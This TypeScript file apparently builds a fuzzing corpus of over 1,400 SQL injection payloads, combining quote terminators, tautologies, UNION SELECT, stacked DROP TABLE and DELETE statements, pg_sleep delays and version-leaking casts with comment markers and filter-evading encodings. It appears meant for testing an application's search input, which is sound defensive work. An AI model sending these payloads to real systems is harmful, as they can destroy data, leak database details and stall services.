/** Injection payloads: every terminator with every continuation, in several encodings. */

const terminators = ['', "'", '"', "')", '")', "'))", '`', '\\', "\\'", "''", '%', "%'", '$$', ']', '*', '1'];
const continuations = [
  ...[' OR 1=1', ' OR NOT 1=2', ' AND 1=0', " OR 'a'='a", '||(SELECT 1)||', ' UNION SELECT NULL', ' UNION ALL SELECT 1,2,3'],
  ...['; DROP TABLE canary', '; DELETE FROM jobs', "; INSERT INTO canary VALUES ('x')", ' RETURNING *', ' LIMIT 1 OFFSET -1'],
  ...['; SELECT pg_sleep(9)', ' AND 1=(SELECT 1 FROM pg_sleep(9))', ' AND randomblob(900000000)', ' AND load_extension(1)'],
  ...[
    ' AND CAST((SELECT version()) AS int)=1',
    " AND json_extract('{','$')",
    ' ORDER BY 99',
    ' GROUP BY 1 HAVING 1=1',
    ' IS NULL',
  ],
];
const comments = ['', ' --', ' -- -', '#', '/*', ' /*!1*/', ';\u0001', '\n'];

const patterns = [
  '%',
  '_',
  '%%',
  '%_%',
  '\\%',
  '\\_',
  '\\',
  'a\\',
  '[a-z]%',
  '%'.repeat(90),
  '_'.repeat(90),
  `${'%_'.repeat(45)}x`,
];
const fullText = [
  ...[
    '*',
    'a*',
    '"',
    '"a',
    'a"b',
    'a NEAR b',
    'NEAR(a b, 9)',
    'a AND',
    'NOT a',
    'a OR',
    '(a',
    'a)',
    '^a',
    'a : b',
    'title:a',
    '{a b}:c',
  ],
  ...[
    'a & b',
    'a & ',
    '!a',
    '!!',
    'a <-> b',
    'a <9> b',
    'a:*',
    'a:ABCD',
    "'a b':*",
    '& |',
    '-a',
    '+a',
    'a + b',
    ':*',
    '()',
    "a'b:*",
  ],
];
const encodings: ((text: string) => string)[] = [
  (text) => text,
  (text) => encodeURIComponent(text),
  (text) => text.replace(/ /g, '/**/'),
  (text) => text.replace(/['"`]/g, (quote) => ({ "'": '\u2019', '"': '\uff02', '`': '\uff40' })[quote] ?? quote),
  (text) =>
    [...text].map((letter) => (/[a-z]/.test(letter) && letter.charCodeAt(0) % 2 ? letter.toUpperCase() : letter)).join(''),
];

const queries = terminators.flatMap((terminator) =>
  continuations.flatMap((continuation) => comments.map((comment) => terminator + continuation + comment)),
);
const takeEvery = <T>(list: T[], step: number) => list.filter((_, index) => index % step === 0);

/** More than 1,400 unique payloads. */
export const injectionPayloads: string[] = [
  ...new Set([
    ...takeEvery(queries, 3),
    ...encodings.slice(1).flatMap((encode, index) => takeEvery(queries, 23 + index).map(encode)),
    ...[...patterns, ...fullText].flatMap((text) => [text, `nurse ${text}`, `${text} nurse`]),
  ]),
].filter((text) => text.length <= 200);
